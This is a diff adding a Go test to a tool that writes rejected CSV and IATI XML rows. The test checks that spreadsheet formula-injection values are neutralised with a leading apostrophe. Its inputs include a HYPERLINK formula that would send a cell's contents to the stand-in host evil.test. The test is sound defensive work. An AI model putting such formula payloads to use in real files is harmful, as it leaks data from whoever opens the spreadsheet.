@@ -35,6 +35,32 @@ func TestRejectsHoldTheRowsAsTheyStood(t *testing.T) {
 	}
 }
 
+// What is opened in a spreadsheet computes nothing: cells of a table stand as they were, and are quoted where a semicolon might end them.
+func TestRejectsAreNoFormulas(t *testing.T) {
+	t.Chdir(t.TempDir())
+	write(t, "needs.csv", "code,title,valid_from,weight\nA;=1+1,Water,2025-01-01,2\nN-2,B\t=2+2,2025-01-01,;-1\n")
+	write(t, "pub.xml", `<iati-activities version="2.03">
+<iati-activity><iati-identifier>=HYPERLINK("http://evil.test?"&amp;A1;"x")</iati-identifier><activity-status code="99;=1+1"/></iati-activity>
+<iati-activity><iati-identifier>A;＝1+1,-</iati-identifier><activity-status code="-9"/></iati-activity>
+<iati-activity><iati-identifier>GB-1</iati-identifier><activity-status code="9"/></iati-activity>
+</iati-activities>`)
+	setAside(t, "out", "needs.csv", "pub.xml")
+	for file, want := range map[string]string{"needs.rejects.csv": cellsOfTables, "pub.xml.rejects.csv": cellsOfActivities} {
+		if diff := cmp.Diff(want, content(t, "out/"+file)); diff != "" {
+			t.Errorf("%s: %s", file, diff)
+		}
+	}
+}
+
+const cellsOfTables = "row,column,reason,code,title,valid_from,weight\n" +
+	`2,code,"holds a "";""; a code may not, it separates lists","A;=1+1",Water,2025-01-01,2` + "\n" +
+	`3,weight,""";'-1"" is not a number; write digits with a point, such as 1250.50",N-2,"B` + "\t=2+2\",2025-01-01,\";-1\"\n"
+
+const cellsOfActivities = "row,column,reason,line,iati-identifier\n" +
+	`1,programme,the activity has no reporting-org; it must be given (activity 1 begins in line 2),2,"'=HYPERLINK(""http://evil.test?""&A1;""x"")"` + "\n" +
+	`2,programme,the activity has no reporting-org; it must be given (activity 2 begins in line 3),3,"A;'＝1+1,-"` + "\n" +
+	`3,programme,the activity has no reporting-org; it must be given (activity 3 begins in line 4),4,GB-1` + "\n"
+
 func TestRejectsAreNotWrittenWithoutARow(t *testing.T) {
 	t.Chdir(t.TempDir())
 	write(t, "needs.csv", sound)
